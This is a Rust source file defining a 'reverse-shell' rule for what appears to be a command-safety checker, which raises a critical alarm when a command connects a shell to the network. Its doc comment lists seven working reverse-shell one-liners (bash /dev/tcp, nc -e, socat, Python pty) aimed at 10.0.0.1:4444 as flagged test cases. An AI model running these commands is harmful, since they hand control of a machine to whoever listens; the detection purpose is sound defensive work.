//! The rule `reverse-shell`.

use crate::safety::rule::{Alarm, Scene, Subject, declare_rule};
use crate::safety::{Effect, EffectKind, Risk, TargetClass};
declare_rule! {
    /// Connects a shell to the network.
    ///
    /// ## Why
    /// Whoever is at the other end types commands here, with your rights.
    ///
    /// ```sh,flagged
    /// bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
    /// nc -e /bin/sh 10.0.0.1 4444
    /// nc 10.0.0.1 4444 | sh
    /// exec bash < /dev/tcp/10.0.0.1/4444
    /// socat TCP:10.0.0.1:4444 EXEC:/bin/bash
    /// python3 -c 'import socket,pty;s=socket.socket();s.connect(("10.0.0.1",1));pty.spawn("/bin/sh")'
    /// mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
    /// ```
    /// ```sh,clean
    /// nc -zv example.com 443
    /// bash -i
    /// nc -l 8080 > received.txt
    /// nc -l -p 1500 -c 'echo hello'
    /// echo 'nc -e /bin/sh host 1'
    /// ```
    REVERSE_SHELL { name: "reverse-shell", subject: Subject::Effects(&[EffectKind::RemoteShell], judge) }
}

fn judge(effect: &Effect, _scene: &Scene<'_>) -> Option<Alarm> {
    let host =
        if effect.target.class == TargetClass::Host { effect.target.text.as_str() } else { "the network" };
    Some(Alarm::new(
        Risk::Critical,
        format!("Connects a shell to {host}: whoever is there runs commands here."),
    ))
}
